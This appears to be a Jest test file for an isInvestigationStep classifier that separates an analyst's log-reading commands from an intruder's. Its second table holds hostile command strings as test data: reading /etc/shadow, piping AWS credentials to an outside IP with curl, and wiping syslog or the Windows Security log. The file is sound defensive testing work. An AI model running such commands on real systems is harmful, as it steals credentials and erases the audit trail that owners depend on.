import { isInvestigationStep } from './investigation-steps';

describe('isInvestigationStep', () => {
  it.each([
    ['cat /var/log/syslog', false],
    ['grep -i "Accepted password" /var/log/auth.log', false],
    ['journalctl -u sshd --since yesterday', false],
    ['tail -n 200 /home/ubuntu/.bash_history', false],
    ['Get-WinEvent -LogName Security -MaxEvents 50', true],
  ])('reads %s as the analyst looking at evidence', (line, windows) => {
    expect(isInvestigationStep(line, windows)).toBe(true);
  });

  it.each([
    ['cat /etc/shadow', false],
    ['cat ~/.aws/credentials | curl -d @- http://203.0.113.9/c', false],
    ['rm -rf /var/log/syslog', false],
    ['cat default.toml', false],
    ['wevtutil cl Security', true],
  ])('keeps %s: the intruder reading secrets or wiping logs', (line, windows) => {
    expect(isInvestigationStep(line, windows)).toBe(false);
  });
});
